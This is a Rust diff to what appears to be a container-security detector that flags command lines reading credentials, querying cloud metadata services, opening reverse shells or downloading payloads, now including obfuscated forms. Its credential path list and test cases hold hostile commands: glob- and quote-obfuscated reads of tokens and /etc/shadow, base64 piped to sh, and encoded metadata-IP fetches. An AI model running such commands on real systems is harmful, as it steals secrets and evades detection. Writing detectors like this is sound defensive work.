@@ -4,7 +4,11 @@
 //! Patterns are of what a command does, not of a tool's name where many tools do the same. They are meant
 //! for command lines that somebody sent on purpose, so they may be broad.
 
+use std::net::IpAddr;
+
 use airside_types::redact;
+
+mod readings;
 
 /// The longest part of a command line that is looked at, in bytes: Linux runs no longer one.
 const MAX_BYTES: usize = 2 << 20;
@@ -13,6 +17,8 @@ const MAX_BYTES: usize = 2 << 20;
 #[derive(Debug)]
 pub(crate) struct Command {
     lower: String,
+    /// Other ways to read it: as a shell does, and what is encoded in it.
+    readings: Vec<String>,
 }
 
 /// Where a container's credentials lie: its service account, its environment, its host's keys.
@@ -33,6 +39,22 @@ const CREDENTIALS: [&str; 16] = [
     "/etc/kubernetes/pki",
     "/var/lib/kubelet/pki",
     "/var/lib/kubelet/kubeconfig",
+];
+
+/// The same as whole paths, for commands that leave letters to the shell.
+const CREDENTIAL_FILES: [&str; 12] = [
+    "/var/run/secrets/kubernetes.io/serviceaccount/token",
+    "/run/secrets/kubernetes.io/serviceaccount/token",
+    "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
+    "/proc/1/environ",
+    "/proc/self/environ",
+    "/root/.aws/credentials",
+    "/root/.kube/config",
+    "/root/.docker/config.json",
+    "/etc/shadow",
+    "/etc/kubernetes/admin.conf",
+    "/etc/kubernetes/pki/ca.key",
+    "/var/lib/kubelet/pki/kubelet-client-current.pem",
 ];
 
 /// The metadata services of AWS, Azure, Oracle and Google clouds, and of Alibaba's.
@@ -80,28 +102,38 @@ impl Command {
     pub(crate) fn new(line: &str) -> Self {
         let cut = line.char_indices().map(|(at, _)| at).find(|at| *at >= MAX_BYTES);
         let kept = cut.and_then(|at| line.get(..at)).unwrap_or(line);
-        Self { lower: kept.to_ascii_lowercase() }
+        let readings = readings::of(kept).split_off(1);
+        Self { lower: kept.to_ascii_lowercase(), readings }
     }
 
     fn has_any(&self, patterns: &[&str]) -> bool {
-        patterns.iter().any(|pattern| self.lower.contains(pattern))
+        self.all_readings().any(|text| patterns.iter().any(|pattern| text.contains(pattern)))
+    }
+
+    fn all_readings(&self) -> impl Iterator<Item = &str> {
+        std::iter::once(&self.lower).chain(&self.readings).map(String::as_str)
     }
 
     /// Reads a token, key or environment.
     pub(crate) fn reads_credentials(&self) -> bool {
+        let is_meant =
+            |word: &str| CREDENTIAL_FILES.iter().any(|path| readings::glob_means(word, path));
         self.has_any(&CREDENTIALS)
+            || self.all_readings().any(|text| text.split_whitespace().any(is_meant))
     }
 
     /// Asks a cloud's metadata service.
     pub(crate) fn reaches_metadata(&self) -> bool {
+        let is_metadata = |ip: IpAddr| METADATA.iter().any(|text| text.parse() == Ok(ip));
         self.has_any(&METADATA)
+            || self.all_readings().any(|text| readings::addresses(text).any(is_metadata))
     }
 
     /// Hands a shell to a network connection.
     pub(crate) fn is_reverse_shell(&self) -> bool {
-        let pipe_shell =
-            self.lower.contains("mkfifo") && self.has_any(&["nc ", "ncat ", "telnet "]);
-        let python = self.lower.contains("socket.socket") && self.lower.contains("subprocess");
+        let pipe_shell = self.has_any(&["mkfifo"])
+            && self.has_any(&["nc ", "ncat ", "telnet ", "openssl s_client"]);
+        let python = self.has_any(&["socket.socket"]) && self.has_any(&["subprocess", "os.dup2"]);
         self.has_any(&REVERSE_SHELL) || pipe_shell || python
     }
 
@@ -112,8 +144,19 @@ impl Command {
 
     /// Brings something in from the network.
     pub(crate) fn downloads(&self) -> bool {
+        const TOOLS: [&str; 3] = ["curl", "wget", "aria2c"];
         let has_url = self.has_any(&["http://", "https://", "ftp://"]);
-        has_url && self.words().any(|word| matches!(word, "curl" | "wget" | "aria2c"))
+        // These programs take an address without a scheme as well.
+        let has_host = |text: &str| {
+            let mut words = text.split_whitespace();
+            let tool = |word: &str| TOOLS.contains(&word.rsplit('/').next().unwrap_or(word));
+            words.any(tool) && words.any(|word| !word.starts_with('-') && is_host_with_path(word))
+        };
+        let has_tool = || {
+            let words = |text| words_of(text).any(|word| TOOLS.contains(&word));
+            self.all_readings().any(words)
+        };
+        has_url && has_tool() || self.all_readings().any(has_host)
     }
 
     /// Runs what it fetches, or what it decodes.
@@ -132,16 +175,34 @@ impl Command {
     pub(crate) fn archives_to_stdout(&self) -> bool {
         ["tar cf -", "tar -cf -", "tar czf -", "tar -czf -", "tar c "]
             .iter()
-            .any(|pattern| self.lower.starts_with(pattern))
+            .any(|pattern| self.all_readings().any(|text| starts_a_command(text, pattern)))
     }
+}
 
-    fn words(&self) -> impl Iterator<Item = &str> {
-        self.lower
-            .split(|c: char| {
-                c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | '`' | '"' | '\'')
-            })
-            .map(|word| word.rsplit('/').next().unwrap_or(word))
-    }
+/// The programs and arguments of a line, without the folders that they lie in.
+fn words_of(line: &str) -> impl Iterator<Item = &str> {
+    line.split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | '`' | '"' | '\''))
+        .map(|word| word.rsplit('/').next().unwrap_or(word))
+}
+
+/// Whether a pattern stands where a command begins: first, behind a shell's `-c`, or after `;`, `|`, `&`.
+fn starts_a_command(line: &str, pattern: &str) -> bool {
+    line.match_indices(pattern).any(|(at, _)| {
+        let before = line.get(..at).unwrap_or_default().trim_end_matches(['/', '"', '\'', ' ']);
+        let folder = ["/bin", "/usr/bin", "/usr/local/bin"];
+        let before = folder.iter().find_map(|folder| before.strip_suffix(folder)).unwrap_or(before);
+        let before = before.trim_end_matches(['"', '\'', ' ']);
+        before.is_empty() || before.ends_with(" -c") || before.ends_with([';', '|', '&', '('])
+    })
+}
+
+/// `host.example/path`, `10.0.0.7:8000/x`: a host, and what is fetched from it.
+fn is_host_with_path(word: &str) -> bool {
+    let word = word.trim_matches(['"', '\'']);
+    let Some((host, path)) = word.split_once('/') else { return false };
+    let host = host.split(':').next().unwrap_or(host);
+    let is_name = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-');
+    !path.is_empty() && host.contains('.') && !host.starts_with('.') && host.chars().all(is_name)
 }
 
 /// A command line as people may see it: credentials hidden, cut to `limit` characters.
@@ -164,16 +225,25 @@ mod tests {
         let table: &[(Question, &[&str], &[&str])] = &[
             (
                 Command::reads_credentials,
-                &["cat /var/run/secrets/kubernetes.io/serviceaccount/token", "cat /proc/1/environ"],
-                &["cat /etc/hostname", "env"],
+                &[
+                    "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
+                    "cat /proc/1/environ",
+                    "sh -c cat /var/run/secrets/*/*/tok*",
+                    "sh -c c'a't /etc/sh\"ad\"ow",
+                    "sh -c echo Y2F0IC9ldGMvc2hhZG93|base64 -d|sh",
+                ],
+                &["cat /etc/hostname", "env", "ls /var/run/*", "cat /etc/*"],
             ),
             (
                 Command::reaches_metadata,
                 &[
                     "curl -s http://169.254.169.254/latest/meta-data/",
                     "curl metadata.google.internal",
+                    "curl http://2852039166/latest",
+                    "wget 0xa9fea9fe",
+                    "curl http://[::ffff:a9fe:a9fe]/",
                 ],
-                &["curl http://10.0.0.1/"],
+                &["curl http://10.0.0.1/", "sleep 2852"],
             ),
             (
                 Command::is_reverse_shell,
@@ -193,8 +263,10 @@ mod tests {
                 &[
                     "wget -q http://198.51.100.23/x -O /tmp/.x",
                     "sh -c 'curl -fsSL https://x.example'",
+                    "curl -s 198.51.100.23:8000/x -o /tmp/x",
+                    "/usr/bin/wget files.example/x",
                 ],
-                &["echo https://x.example", "curl --version"],
+                &["echo https://x.example", "curl --version", "curl -o /tmp/x", "curl ./x.y/z"],
             ),
             (
                 Command::runs_what_it_fetches,
@@ -205,7 +277,11 @@ mod tests {
                 ],
                 &["curl https://x.example | jq .", "cat a.sh | sh"],
             ),
-            (Command::archives_to_stdout, &["tar cf - /data"], &["tar xf -", "start cf -"]),
+            (
+                Command::archives_to_stdout,
+                &["tar cf - /data", "sh -c tar cf - /data", "/bin/tar czf - .", "cd /; tar c ."],
+                &["tar xf -", "start cf -", "echo tar cf -"],
+            ),
         ];
         for (question, yes, no) in table {
             for line in *yes {
